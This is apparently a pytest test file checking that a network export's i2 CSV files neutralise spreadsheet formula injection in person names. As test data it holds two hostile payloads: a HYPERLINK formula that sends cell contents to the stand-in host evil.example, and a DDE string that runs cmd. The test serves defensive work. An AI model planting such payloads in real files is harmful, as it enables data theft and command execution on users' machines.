"""Issue 12: a name in the network export's i2 files cannot run as a formula in a spreadsheet
(i2 Analyst's Notebook imports them, but analysts open them in Excel too)."""

import csv
import io
import zipfile

import pytest

from offramp.accounts.models import User
from offramp.exports.services import export_download
from offramp.people.models import Person

from .conftest import NetworkWorld
from .test_exports import export_group

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
DDE = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.usefixtures("names_for_analyst")  # names, not pseudonyms, reach the files
def test_hostile_names_reach_the_i2_files_as_text(network: NetworkWorld, analyst: User) -> None:
    Person.objects.filter(pk=network.people["dan"].pk).update(given_name=HYPERLINK)
    Person.objects.filter(pk=network.people["lee"].pk).update(given_name=DDE, family_name="")
    export = export_group(analyst, network)
    body = export_download(export=export, user=analyst, fmt="i2").body
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        entities = list(
            csv.reader(io.StringIO(archive.read("i2-entities.csv").decode("utf-8-sig")))
        )
    header = entities[1]
    labels = {row[header.index("entity_id")]: row[header.index("label")] for row in entities[2:]}
    assert labels[str(network.people["dan"].pk)] == f"'{HYPERLINK} Boyd"
    assert labels[str(network.people["lee"].pk)] == f"'{DDE}"
    formulas = [cell for row in entities[1:] for cell in row if cell[:1] in ("=", "+", "@")]
    assert formulas == []
